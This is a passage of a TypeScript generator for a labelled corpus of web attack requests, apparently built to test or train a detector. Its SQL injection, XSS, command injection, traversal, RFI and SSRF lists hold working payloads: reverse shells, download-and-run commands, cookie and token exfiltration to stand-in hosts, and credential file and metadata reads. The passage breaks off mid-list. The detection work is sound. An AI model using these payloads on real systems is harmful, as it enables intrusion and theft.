/**
 * The labelled attack corpus: seed payloads written by us for each of the 15 categories of issue #10,
 * each placed in a realistic request (query, path, form, JSON, XML, multipart, cookie or header).
 *
 * Argument: none; result: `attacks()` returns the requests in a fixed order with ids `a-<category>-NNN`.
 * Example: `attacks()[0]` is `a-sqli-001`, a GET with a quote tautology in `?id=`.
 */
import {
  type Header, type Part, type Req, type Rng, rng, int, pick, hex, alnum, uuid, b64, jwt, boundary, multipart,
  baseHeaders, browserCookies, qenc, fenc, looseq, cenc, xmlEsc, BROWSERS,
} from "./lib.ts";

type Shape = { method: string; uri: string; headers: Header[]; body?: string };
type B = (r: Rng) => Shape;

const SHOP = ["shop.example.test", "www.example.test", "app.example.test"];
function hostFor(r: Rng, path: string): string {
  if (path.startsWith("/api/") || path.startsWith("/v1/") || path.startsWith("/v2/") || path.startsWith("/graphql")) return "api.example.test";
  if (path.startsWith("/admin")) return "admin.example.test";
  return pick(r, SHOP);
}
/** Attackers mostly spoof a browser; some use curl or a script. */
function client(r: Rng, host: string, kind: "page" | "xhr" = "page"): Header[] {
  const x = r();
  if (x < 0.6) return baseHeaders(r, host, kind, { cookies: r() < 0.5 });
  if (x < 0.8) return [["Host", host], ["User-Agent", pick(r, ["curl/8.5.0", "curl/7.88.1", "curl/8.7.1"])], ["Accept", "*/*"]];
  return [["Host", host], ["User-Agent", pick(r, ["python-requests/2.31.0", "python-requests/2.28.2", "Go-http-client/1.1", "python-httpx/0.27.0"])], ["Accept-Encoding", "gzip, deflate"], ["Accept", "*/*"], ["Connection", "keep-alive"]];
}
function apiClient(r: Rng, host: string): Header[] {
  const h = client(r, host, "xhr");
  if (r() < 0.6) h.push(["Authorization", `Bearer ${jwt(r)}`]);
  return h;
}

// ---- builders -----------------------------------------------------------------------------------
/** GET path?…&param=<browser-encoded p> */
const q = (path: string, param: string, p: string, pre = ""): B => (r) => {
  const host = hostFor(r, path);
  return { method: "GET", uri: `${path}?${pre ? pre + "&" : ""}${param}=${qenc(p)}`, headers: path.startsWith("/api/") ? apiClient(r, host) : client(r, host) };
};
/** GET path?…&param=<loosely encoded p> (as curl or a script sends it) */
const ql = (path: string, param: string, p: string, pre = ""): B => (r) => {
  const host = hostFor(r, path);
  return { method: "GET", uri: `${path}?${pre ? pre + "&" : ""}${param}=${looseq(p)}`, headers: client(r, host) };
};
/** A raw request-target, already encoded as the attacker sent it. */
const u = (uri: string, method = "GET"): B => (r) => {
  const host = hostFor(r, uri);
  return { method, uri, headers: uri.startsWith("/api/") ? apiClient(r, host) : client(r, host) };
};
/** POST form body: param=<p> plus optional other fields (already encoded). */
const f = (path: string, param: string, p: string, other = "", method = "POST"): B => (r) => {
  const host = hostFor(r, path);
  const h = client(r, host);
  h.push(["Content-Type", "application/x-www-form-urlencoded"]);
  const body = `${other ? other + "&" : ""}${param}=${fenc(p)}`;
  return { method, uri: path, headers: h, body };
};
/** POST a raw form body (already encoded). */
const fr = (path: string, body: string): B => (r) => {
  const host = hostFor(r, path);
  const h = client(r, host);
  h.push(["Content-Type", "application/x-www-form-urlencoded"]);
  return { method: "POST", uri: path, headers: h, body };
};
/** JSON body: an object (serialised) or a raw JSON text. */
const j = (path: string, obj: unknown, method = "POST"): B => (r) => {
  const host = hostFor(r, path);
  const h = apiClient(r, host);
  h.push(["Content-Type", pick(r, ["application/json", "application/json; charset=utf-8", "application/json"])]);
  return { method, uri: path, headers: h, body: typeof obj === "string" ? obj : JSON.stringify(obj) };
};
/** XML body. */
const x = (path: string, body: string, ct = "application/xml", extra: Header[] = []): B => (r) => {
  const host = hostFor(r, path);
  const h = client(r, host);
  h.push(["Content-Type", ct], ...extra);
  return { method: "POST", uri: path, headers: h, body };
};
/** multipart/form-data body with the given parts. */
const m = (path: string, parts: Part[]): B => (r) => {
  const host = hostFor(r, path);
  const h = client(r, host);
  const b = boundary(r);
  h.push(["Content-Type", `multipart/form-data; boundary=${b}`]);
  return { method: "POST", uri: path, headers: h, body: multipart(b, parts) };
};
/** A cookie carrying p (cookie-encoded), next to ordinary cookies. */
const c = (path: string, name: string, p: string, raw = false): B => (r) => {
  const host = hostFor(r, path);
  const h = client(r, host).filter(([n]) => n !== "Cookie");
  h.push(["Cookie", `${browserCookies(r)}; ${name}=${raw ? p : cenc(p)}`]);
  return { method: "GET", uri: path, headers: h };
};
/** A request header carrying p verbatim (User-Agent replaces the client's). */
const h = (path: string, name: string, p: string, method = "GET"): B => (r) => {
  const host = hostFor(r, path);
  const hs = client(r, host).filter(([n]) => n.toLowerCase() !== name.toLowerCase());
  hs.push([name, p]);
  return { method, uri: path, headers: hs };
};
/** Fully custom request. */
const raw = (fn: B): B => fn;

// ---- SQL injection -----------------------------------------------------------------------------------
const sqli: B[] = [
  q("/products", "id", "1' OR '1'='1"),
  q("/products", "id", "1 OR 1=1"),
  f("/login", "username", "admin'--", "password=whatever"),
  f("/login", "password", "' OR 1=1-- -", "username=admin"),
  q("/news", "article", "1 UNION SELECT username,password FROM users--"),
  q("/catalog", "cat", "-1' UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables-- -"),
  q("/api/v1/orders", "order_id", "1; DROP TABLE orders--"),
  ql("/reports", "id", "1'; EXEC master..xp_cmdshell 'whoami'--"),
  q("/products", "id", "1' AND SLEEP(5)-- -"),
  q("/item", "pid", "1 AND (SELECT 4821 FROM (SELECT(SLEEP(5)))abc)"),
  q("/account/invoice", "no", "1'; WAITFOR DELAY '0:0:5'--"),
  q("/api/v1/users", "id", "1' AND 1=(SELECT 1 FROM pg_sleep(5))--"),
  q("/search", "q", "x' AND BENCHMARK(5000000,MD5('a'))#"),
  q("/products", "id", "1' AND extractvalue(1,concat(0x7e,(SELECT version())))-- -"),
  q("/profile", "uid", "7' AND updatexml(1,concat(0x7e,user(),0x7e),1)-- -"),
  q("/report", "year", "2024 AND 1=CONVERT(int,(SELECT @@version))"),
  q("/products", "id", "1'/**/UNION/**/SELECT/**/password/**/FROM/**/users#"),
  q("/products", "id", "1'/*!50000UNION*//*!50000SELECT*/1,2,3-- -"),
  u("/products?id=1%27%0aUNION%0aSELECT%0a1,2,3--%0a"),
  u("/products?id=1%27%09UnIoN%09SeLeCt%09user(),2--%09-"),
  q("/login", "user", "' OR username=0x61646d696e-- "),
  q("/products", "id", "1 UNION SELECT 0x3c3f706870,2,3"),
  q("/api/v1/items", "id", "1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64-- -"),
  q("/products", "id", "1' AND 1=1 AND 'a'='a"),
  f("/login", "username", "' OR ''='", "password=x"),
  q("/catalog", "sort", "name) OR (1=1"),
  q("/products", "id", "1' ORDER BY 10-- -"),
  q("/products", "id", "1' GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)-- -"),
  f("/register", "email", "a@b.co'); INSERT INTO users(username,role) VALUES('eve','admin');--", "name=Eve"),
  j("/api/v1/profile", { id: 42, nickname: "x'; UPDATE users SET role='admin' WHERE id=42;--" }, "PUT"),
  q("/download", "doc", "x' UNION SELECT LOAD_FILE('/etc/passwd'),2-- -"),
  q("/page", "id", "1 UNION SELECT '<?php system($_GET[c]);?>' INTO OUTFILE '/var/www/html/s.php'"),
  q("/api/v1/search", "term", "1' || (SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END)-- "),
  q("/products", "id", "' UNION SELECT banner,NULL FROM v$version--"),
  q("/search", "q", "' UNION SELECT sql,2 FROM sqlite_master--"),
  c("/account", "session_id", "1' OR '1'='1"),
  h("/", "X-Forwarded-For", "127.0.0.1' AND SLEEP(5)-- -"),
  h("/", "User-Agent", "Mozilla/5.0' AND 1=(SELECT 1 FROM pg_sleep(5))--"),
  j("/api/v1/orders/search", { filter: { status: "shipped' UNION SELECT card_number,cvv,3 FROM payments-- -" }, page: 1 }),
  j("/api/v1/products/lookup", { id: "1 OR 1=1", fields: ["name", "price"] }),
  q("/catalog", "order", "(CASE WHEN (SELECT SUBSTRING(version(),1,1))='8' THEN name ELSE price END)"),
  f("/admin/login", "user", "admin' #", "pass=x"),
  ql("/products", "id", "1'or'1'='1"),
  ql("/products", "id", "1'or(1)=(1)#"),
  q("/products", "id", "1' UnIoN SeLeCt 1,@@version,3-- -"),
  q("/news", "id", "-1 and 1=2 union select 1,group_concat(column_name),3 from information_schema.columns where table_name=0x7573657273"),
  u("/products?id=1%2527%2520OR%25201%253D1--"),
  x("/api/soap/orders", `<?xml version="1.0" encoding="UTF-8"?><getOrder><orderId>1 UNION SELECT password FROM users--</orderId></getOrder>`),
  m("/support/attach", [{ name: "ticket", value: "1' AND (SELECT COUNT(*) FROM users)>0 AND '1'='1" }, { name: "note", value: "see attached" }]),
  fr("/login", "username=admin%27+OR+%271%27%3D%271&password=x"),
  q("/products", "id", "1;SELECT CASE WHEN (username='admin') THEN pg_sleep(5) ELSE pg_sleep(0) END FROM users--"),
  c("/cart", "cart_id", "5' AND 1=CAST((SELECT password FROM users LIMIT 1) AS int)--"),
  j("/api/v1/reports/run", { groupBy: "region", orderBy: "revenue DESC; DROP TABLE audit_log--" }),
  j("/api/v1/users/lookup", { email: "x@x.test' AND 1=(SELECT COUNT(*) FROM pg_sleep(5))--" }),
  j("/api/v1/products/query", { filter: { price_min: "0 UNION SELECT id,email,password_hash,4 FROM customers" } }),
  f("/account/address", "zip", "12345' AND (SELECT 1 FROM (SELECT SLEEP(5))x)-- -", "city=Dublin"),
  c("/catalog", "sort_pref", "price' AND extractvalue(rand(),concat(0x3a,(SELECT user())))-- "),
  h("/api/v1/orders", "X-Tenant-Id", "acme' OR '1'='1"),
  m("/api/v1/profile", [{ name: "nickname", value: "x' UNION SELECT password FROM users WHERE 'a'='a" }]),
  j("/api/v1/search", `{"q":"\\u0027 OR 1=1-- ","page":1}`),
  j("/api/v1/orders/bulk-cancel", { ids: "1,2) OR 1=1--" }, "PATCH"),
];

// ---- XSS ---------------------------------------------------------------------------------------------
const xss: B[] = [
  q("/search", "q", "<script>alert(1)</script>"),
  q("/search", "q", "<img src=x onerror=alert(document.domain)>"),
  q("/profile", "name", "<svg onload=alert(1)>"),
  q("/search", "q", "<svg><script>alert(1)</script></svg>"),
  q("/product", "ref", "\"><script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
  q("/search", "q", "'><img src=1 onerror=prompt(1)>"),
  q("/login", "next", "javascript:alert(document.cookie)"),
  q("/logout", "return", "JaVaScRiPt:alert(1)"),
  q("/go", "url", "java&#x09;script:alert(1)"),
  f("/comments", "body", "<a href=\"javascript:alert(1)\">click me</a>", "post_id=881"),
  q("/welcome", "msg", "<body onload=alert(1)>"),
  q("/embed", "src", "<iframe src=\"javascript:alert(1)\"></iframe>"),
  f("/forum/reply", "text", "<iframe srcdoc=\"&lt;script&gt;alert(document.domain)&lt;/script&gt;\"></iframe>", "thread=77"),
  q("/search", "q", "<details open ontoggle=alert(1)>"),
  q("/contact", "subject", "<input autofocus onfocus=alert(1)>"),
  q("/media", "title", "<video><source onerror=alert(1)></video>"),
  q("/page", "banner", "<marquee onstart=alert(1)>hi</marquee>"),
  q("/preview", "content", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>"),
  q("/profile", "bio", "<div style=\"background-image:url(javascript:alert(1))\">x</div>"),
  q("/theme", "css", "</style><script>alert(1)</script>"),
  q("/search", "q", "\" onmouseover=\"alert(1)"),
  q("/search", "q", "' autofocus onfocus='alert(1)"),
  f("/feedback", "message", "</textarea><script>alert(1)</script>", "rating=5"),
  q("/page", "title", "</title><svg/onload=alert(1)>"),
  q("/search", "q", "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>"),
  q("/profile", "website", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">site</a>"),
  u("/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E"),
  u("/search?q=%u003Cscript%u003Ealert(1)%u003C/script%u003E"),
  j("/api/v1/comments", `{"postId":881,"body":"\\u003cscript\\u003ealert(document.cookie)\\u003c/script\\u003e"}`),
  q("/search", "q", "<img src=x onerror=\"eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))\">"),
  q("/search", "q", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
  q("/redirect", "to", "data:text/html,<script>alert(1)</script>"),
  f("/guestbook", "entry", "<form action=javascript:alert(1)><input type=submit value=Login></form>", "name=guest"),
  q("/page", "header", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"),
  q("/view", "file", "<embed src=\"javascript:alert(1)\">"),
  q("/search", "q", "{{constructor.constructor('alert(1)')()}}"),
  q("/search", "q", "<img src=x:x onerror=alert(1)//"),
  q("/profile", "name", "<svg/onload=location='//attacker.example/?c='+document.cookie>"),
  h("/", "Referer", "https://www.example.test/\"><img src=x onerror=alert(1)>"),
  h("/", "User-Agent", "<script>alert('ua')</script>"),
  c("/", "lang", "\"><script>alert(1)</script>"),
  j("/api/v1/posts/52/comments", { body: "nice post <img src=x onerror=alert(1)>", notify: true }),
  m("/api/v1/avatar", [{ name: "file", filename: "avatar.svg", type: "image/svg+xml", value: `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><circle r="40"/></svg>` }]),
  q("/search", "q", "<x contenteditable onblur=alert(1)>lose focus"),
  q("/search", "q", "<img src=\"x\" onerror=\"window['al'+'ert'](1)\">"),
  q("/search", "q", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
  q("/wiki/edit", "body", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">click</text></a></svg>"),
  q("/search", "q", "<img src=x onerror=alert`1`>"),
  x("/api/feed/import", `<?xml version="1.0"?><item><title>&lt;script&gt;alert(1)&lt;/script&gt;</title></item>`),
  j("/api/v1/profile", { displayName: "<img src=x onerror=fetch('//attacker.example/'+localStorage.token)>" }, "PATCH"),
  j("/api/v1/tickets", { subject: "help", body: "<svg/onload=alert(document.domain)>" }),
  f("/comments", "author_url", "javascript:fetch('//attacker.example?c='+document.cookie)", "post_id=9&body=nice"),
  c("/", "username", "<script>alert(1)</script>"),
  h("/", "X-Forwarded-Host", "\"><script src=//attacker.example/x.js></script>"),
  m("/api/v1/posts", [{ name: "title", value: "<iframe src=javascript:alert(1)>" }, { name: "body", value: "hello" }]),
  j("/api/v1/chat/messages", { text: "[click here](javascript:alert(document.cookie))" }),
  j("/api/v1/profile", { website: "<a href=\"jav&#x0A;ascript:alert(1)\">me</a>" }, "PUT"),
];

// ---- OS command injection ---------------------------------------------------------------------------
const cmdi: B[] = [
  q("/tools/ping", "host", "127.0.0.1; cat /etc/passwd"),
  q("/tools/ping", "host", "127.0.0.1 && id"),
  f("/diag/traceroute", "target", "8.8.8.8 | nc 203.0.113.50 4444 -e /bin/sh"),
  q("/tools/dns", "domain", "example.com$(whoami)"),
  q("/tools/dns", "domain", "example.com`id`"),
  q("/tools/ping", "host", "1.1.1.1;c'a't /etc/pa''sswd"),
  q("/tools/ping", "host", "1.1.1.1;c\\at /et\\c/pas\\swd"),
  q("/tools/ping", "host", "1.1.1.1;cat${IFS}/etc/passwd"),
  ql("/tools/ping", "host", "1.1.1.1;cat$IFS$9/etc/passwd"),
  q("/convert", "file", "a.png;/???/c?t /???/p??s??"),
  q("/convert", "file", "a.png;{cat,/etc/passwd}"),
  q("/tools/whois", "q", "example.com;cat ${HOME:0:1}etc${HOME:0:1}passwd"),
  f("/admin/backup", "path", "/tmp/x | curl -s http://203.0.113.50/x.sh | sh"),
  q("/api/v1/thumbnail", "url", "img.jpg; wget http://203.0.113.50/bot -O /tmp/.b; chmod +x /tmp/.b; /tmp/.b"),
  j("/api/v1/devices/ping", { ip: "10.0.0.1; bash -i >& /dev/tcp/203.0.113.50/4444 0>&1" }),
  q("/tools/ping", "host", "127.0.0.1 & ping -n 5 127.0.0.1 &"),
  q("/export", "name", "report | type C:\\Windows\\win.ini"),
  q("/tools/lookup", "host", "localhost & dir C:\\"),
  f("/diag", "cmd_target", "x & powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.50/a.ps1')\""),
  q("/tools/ping", "host", "127.0.0.1 | cmd /c whoami"),
  q("/update", "pkg", "x & certutil -urlcache -split -f http://203.0.113.50/p.exe %TEMP%\\p.exe & %TEMP%\\p.exe"),
  q("/tools/ping", "host", "1.1.1.1;echo${IFS}aWQ=|base64${IFS}-d|sh"),
  q("/api/v1/lookup", "name", "a$(sleep 5)"),
  q("/tools/ping", "host", "x || sleep 10 ||"),
  u("/tools/ping?host=127.0.0.1%0Aid"),
  q("/tools/ping", "host", "1.1.1.1;$'\\x63\\x61\\x74' /etc/passwd"),
  q("/tools/ping", "host", "1.1.1.1;w'h'o'am'i"),
  q("/tools/ping", "host", "1.1.1.1|wh\\oami"),
  f("/mail/send", "to", "user@example.com\"; uname -a; echo \""),
  q("/files/delete", "name", "report.pdf; rm -rf /var/www"),
  f("/tools/exec", "host", "x;python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.50\",4444));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"/bin/sh\")'"),
  q("/tools/ping", "host", "x;perl -e 'system(\"id\")'"),
  q("/tools/dns", "domain", "example.com; nslookup $(whoami).attacker.example"),
  h("/cgi-bin/status", "User-Agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'"),
  q("/tools/ping", "host", "1.1.1.1;X=$'cat\\x20/etc/passwd'&&$X"),
  q("/tools/ping", "host", "1.1.1.1;a=c;b=at;$a$b /etc/passwd"),
  q("/goform/diag", "ip", "x || /bin/busybox telnetd -p 9999 -l /bin/sh"),
  q("/tools/ping", "host", "127.0.0.1 & net user backup P4ssw0rd! /add & net localgroup administrators backup /add"),
  q("/tools/ping", "host", "x | powershell.exe -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwAyADAAMwAuADAALgAxADEAMwAuADUAMAAvAGEAKQA="),
  q("/tools/ping", "host", "8.8.8.8 && tasklist /v"),
  q("/tools/ping", "host", "1.1.1.1; cat /e*c/p*d"),
  j("/api/v1/network/test", { host: "8.8.8.8;id", count: 3 }),
  m("/convert/image", [{ name: "file", filename: "x.jpg;curl attacker.example|sh;.jpg", type: "image/jpeg", value: "\u00ff\u00d8\u00ff\u00e0JFIF" }]),
  q("/tools/ping", "host", "$(curl -d @/etc/passwd http://attacker.example/)"),
  q("/tools/ls", "dir", "x;ls${IFS}-la${IFS}/"),
  j("/api/v1/network/test", { host: "8.8.8.8\nid" }),
  q("/tools/ping", "host", "127.0.0.1 | ncat 203.0.113.50 4444 -e cmd.exe"),
  q("/tools/ping", "host", "1.1.1.1;{echo,aWQ=}|{base64,-d}|bash"),
  q("/tools/ping", "host", "127.0.0.1 & for /f %i in ('whoami') do nslookup %i.attacker.example"),
  q("/tools/ping", "host", "127.0.0.1 & w^h^o^a^m^i"),
  c("/dashboard", "tz", "UTC;id>/tmp/o"),
  j("/api/v1/backups", { target: "s3://bucket/db-$(date +%F).tar.gz;curl http://203.0.113.50/$(whoami)" }),
  j("/api/v1/git/clone", { repo: "https://github.com/example/x.git --upload-pack='touch /tmp/pwn'" }),
  f("/admin/tools/nslookup", "domain", "example.com|type %SYSTEMROOT%\\win.ini"),
  c("/", "country", "ie`sleep 5`"),
  h("/cgi-bin/test.cgi", "Referer", "() { ignored; }; echo; /usr/bin/id"),
  m("/api/v1/convert", [{ name: "options", value: "-density 300 ;wget -qO- http://203.0.113.50/i|sh" }, { name: "format", value: "png" }]),
  j("/api/v1/images/resize", { size: "100x100\";cat /etc/passwd;\"" }),
  fr("/ping", "ip=127.0.0.1%0acat+/etc/passwd"),
];

// ---- LFI / path traversal ----------------------------------------------------------------------------
const lfi: B[] = [
  q("/download", "file", "../../../../etc/passwd"),
  q("/download", "file", "....//....//....//etc/passwd"),
  u("/download?file=..%2f..%2f..%2fetc%2fpasswd"),
  u("/view?page=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
  u("/view?page=%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
  u("/download?file=..%u2215..%u2215..%u2215etc%u2215passwd"),
  u("/download?file=%u002e%u002e/%u002e%u002e/%u002e%u002e/etc/passwd"),
  u("/static?f=%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
  u("/static?f=..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
  u("/static?f=%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/etc/shadow"),
  q("/download", "file", "..\\..\\..\\windows\\win.ini"),
  u("/download?file=..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts"),
  q("/attachments", "path", "C:\\inetpub\\wwwroot\\web.config"),
  q("/export", "template", "/etc/shadow"),
  q("/include", "page", "/proc/self/environ"),
  q("/include", "page", "/proc/self/cmdline"),
  q("/include", "page", "../../../../var/log/apache2/access.log"),
  u("/image?name=../../../../etc/passwd%00.png"),
  u("/include?page=../../../../etc/passwd%00"),
  q("/download", "file", "....\\/....\\/....\\/etc/passwd"),
  u("/app/..;/..;/WEB-INF/web.xml"),
  u("/static/..%2f..%2fWEB-INF/web.xml"),
  q("/files", "name", "../../../../root/.ssh/id_rsa"),
  q("/download", "file", "../../../.env"),
  q("/download", "file", "../../../../home/app/.aws/credentials"),
  q("/docs", "path", "../../config/database.yml"),
  q("/download", "file", "..//..//..//etc//passwd"),
  q("/image", "src", "/var/www/images/../../../etc/passwd"),
  u("/download?file=%2e%2e/%2e%2e/%2e%2e/etc/hosts"),
  u("/download?file=.%2e/.%2e/.%2e/etc/passwd"),
  u("/download?file=..%252f..%252f..%252fetc%252fpasswd"),
  q("/download", "file", "../../../../../../../../../../../../etc/group"),
  u("/download?file=..%c1%9c..%c1%9c..%c1%9cwindows%c1%9cwin.ini"),
  u("/download?file=%EF%BC%8E%EF%BC%8E%EF%BC%8F%EF%BC%8E%EF%BC%8E%EF%BC%8F%EF%BC%8E%EF%BC%8E%EF%BC%8Fetc%EF%BC%8Fpasswd"),
  j("/api/v1/reports/render", { template: "../../../../etc/passwd", format: "pdf" }),
  c("/", "lang", "../../../../etc/passwd"),
  m("/upload", [{ name: "file", filename: "../../../var/www/html/shell.php", type: "application/octet-stream", value: "<h1>owned</h1>" }]),
  j("/api/v1/files/read", `{"path":"..\\\\..\\\\..\\\\..\\\\windows\\\\system.ini"}`),
  u("/download?file=%5c..%5c..%5c..%5cwindows%5cwin.ini"),
  q("/include", "page", "/proc/self/fd/3"),
  q("/download", "file", "../../../../usr/local/etc/php/php.ini"),
  q("/download", "file", "../WEB-INF/classes/application.properties"),
  q("/download", "file", "....//....//....//....//etc/shadow"),
  u("/assets/../../../../etc/passwd"),
  u("/download/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
  f("/admin/logs/view", "log", "../../../../../var/log/auth.log"),
  h("/", "X-Original-URL", "/../../../../etc/passwd"),
  x("/api/soap/docs", `<?xml version="1.0"?><getDocument><path>../../../../etc/passwd</path></getDocument>`),
  j("/api/v1/themes/preview", { file: "..%2f..%2f..%2fetc%2fpasswd" }),
  f("/help", "topic", "../../../../etc/passwd%00"),
  c("/", "template", "../../../../../../windows/win.ini"),
  h("/", "Accept-Language", "../../../../../../etc/passwd"),
  m("/api/v1/avatars", [{ name: "file", filename: "..\\..\\..\\inetpub\\wwwroot\\x.aspx", type: "image/png", value: "x" }]),
  j("/api/v1/export", { path: "/etc/passwd", format: "raw" }),
  fr("/download", "file=..%252f..%252f..%252fetc%252fpasswd"),
];

// ---- RFI -----------------------------------------------------------------------------------------------
const rfi: B[] = [
  q("/index.php", "page", "http://203.0.113.50/shell.txt?"),
  q("/index.php", "page", "http://203.0.113.50/shell.txt"),
  q("/index.php", "include", "https://evil.example/c99.txt?"),
  u("/index.php?file=http://attacker.example/backdoor.txt%00"),
  q("/main.php", "module", "ftp://anonymous@203.0.113.50/pub/x.php"),
  q("/index.php", "page", "\\\\203.0.113.50\\share\\shell.php"),
  q("/index.php", "template", "//attacker.example/shell.txt?"),
  q("/index.php", "page", "HtTpS://attacker.example/x.txt??"),
  q("/index.php", "lang", "http://attacker.example/x.txt#"),
  q("/index.php", "page", "http://[2001:db8::66]/inc.txt?"),
  q("/index.php", "inc", "http://0xCB007132/x.txt"),
  q("/index.php", "page", "http://3405803826/inc.php?"),
  q("/index.php", "view", "https://paste.attacker.example/raw/Xk29aQ?"),
  q("/index.php", "file", "http://attacker.example/shell.jpg?.php"),
  q("/index.php", "layout", "http://attacker.example:8080/r.txt?lang="),
  q("/index.php", "page", "smb://203.0.113.50/share/inc.php"),
  q("/wp-content/plugins/gallery/load.php", "path", "http://203.0.113.50/wso.txt?"),
  q("/index.php", "page", "http://attacker.example/x.txt?/../../index"),
  u("/index.php?page=http%3A//203.0.113.50/shell.txt%3F"),
  u("/index.php?page=http%253A%252F%252F203.0.113.50%252Fshell.txt%253F"),
  f("/admin/theme.php", "skin", "http://203.0.113.50/skin.txt?"),
  f("/index.php", "content", "https://attacker.example/inc/r57.txt?", "action=load"),
  j("/api/v1/templates/import", { templateUrl: "http://203.0.113.50/t.txt?", name: "promo" }),
  c("/index.php", "lang", "http://203.0.113.50/l.txt?"),
  q("/components/com_x/x.php", "mosConfig_absolute_path", "http://attacker.example/id.txt?"),
  q("/modules.php", "name", "http://attacker.example/x.txt?"),
  q("/index.php", "option", "ftp://203.0.113.50/inc.txt"),
  q("/show.php", "doc", "http://198.51.100.23:81/x.php?"),
  q("/index.php", "page", "http://attacker.example/x.txt%00"),
  q("/include.php", "path", "https://attacker.example/inc.txt?cmd=id"),
  q("/index.php", "p", "http://0313.0000.0161.0062/x.txt?"),
  q("/index.php", "load", "http:/\\attacker.example/x.txt?"),
  q("/index.php", "conf", "https://raw.attacker.example/payloads/shell.txt?"),
  u("/index.php?page=hTtP://203.0.113.50/x.txt?&cmd=id"),
  q("/cms/render.php", "tpl", "http://attacker.example/tpl/evil.tpl?x="),
  m("/admin/import.php", [{ name: "source", value: "http://203.0.113.50/import.txt?" }, { name: "go", value: "1" }]),
  q("/index.php", "page", "http://attacker.example/shell.txt???"),
  q("/print.php", "header", "http://203.0.113.50/hdr.txt?"),
  q("/index.php", "cat", "ftps://203.0.113.50/c.txt"),
  q("/gallery.php", "dir", "http://attacker.example/x/"),
  f("/index.php", "inc", "\\\\attacker.example\\pub\\x.php"),
  q("/index.php", "page", "https://attacker.example:443/p.txt?"),
  q("/index.php", "path", "https://attacker.example/x.txt%23"),
  q("/index.php", "page", "ftp://attacker.example/x.txt?"),
  f("/admin/settings.php", "template", "\\\\attacker.example@SSL\\DavWWWRoot\\x.php"),
  j("/api/v1/plugins/install", { plugin: "http://198.51.100.23/plugin.php?", activate: true }),
  j("/api/v1/cms/widgets", { include: "http://203.0.113.50/w.txt?" }),
  m("/admin/plugins/install.php", [{ name: "plugin_url", value: "https://attacker.example/plug.txt?" }]),
  fr("/index.php", "page=http%3A%2F%2F198.51.100.23%2Fsh.txt%3F&submit=1"),
];

// ---- SSRF ------------------------------------------------------------------------------------------------
const ssrf: B[] = [
  q("/api/v1/fetch", "url", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
  j("/api/v1/webhooks", { url: "http://169.254.169.254/latest/user-data", events: ["order.created"] }),
  q("/proxy", "url", "http://2852039166/latest/meta-data/"),
  q("/proxy", "url", "http://0xA9FEA9FE/latest/meta-data/"),
  q("/proxy", "url", "http://0251.0376.0251.0376/latest/meta-data/"),
  q("/proxy", "url", "http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/"),
  q("/api/v1/preview", "link", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
  q("/api/v1/preview", "link", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
  q("/image", "src", "http://169.254.169.254.nip.io/latest/meta-data/"),
  j("/api/v1/integrations", { callback_url: "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token" }),
  q("/api/v1/fetch", "url", "http://metadata/computeMetadata/v1/project/project-id"),
  q("/api/v1/fetch", "url", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
  q("/api/v1/fetch", "url", "http://100.100.100.200/latest/meta-data/"),
  q("/api/v1/fetch", "url", "http://[fd00:ec2::254]/latest/meta-data/"),
  q("/api/v1/fetch", "url", "http://169.254.170.2/v2/credentials/"),
  q("/proxy", "url", "http://localhost:6379/"),
  j("/api/v1/import", { source: "http://127.0.0.1:2375/containers/json" }),
  q("/proxy", "url", "http://127.1/admin"),
  q("/proxy", "url", "http://0.0.0.0:8080/actuator/env"),
  q("/proxy", "url", "http://[::1]:9200/_cat/indices"),
  q("/proxy", "url", "http://2130706433/admin"),
  q("/proxy", "url", "http://0x7f000001/server-status"),
  q("/proxy", "url", "http://017700000001/"),
  q("/proxy", "url", "http://127.000.000.001:8500/v1/agent/self"),
  q("/proxy", "url", "http://LOCALHOST:8080/manager/html"),
  q("/api/v1/avatar/fetch", "image_url", "http://127.0.0.1.nip.io/admin"),
  j("/api/v1/webhooks", { url: "http://10.0.0.5:8500/v1/kv/?recurse", secret: "s" }),
  q("/proxy", "url", "http://192.168.0.1/cgi-bin/luci"),
  q("/proxy", "url", "http://172.17.0.1:2375/info"),
  j("/api/v1/fetch", { url: "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets" }),
  q("/proxy", "url", "http://[0:0:0:0:0:ffff:127.0.0.1]/admin"),
  q("/api/v1/fetch", "url", "file:///etc/passwd"),
  q("/pdf/render", "source", "file:///proc/self/environ"),
  q("/api/v1/fetch", "url", "file://localhost/etc/shadow"),
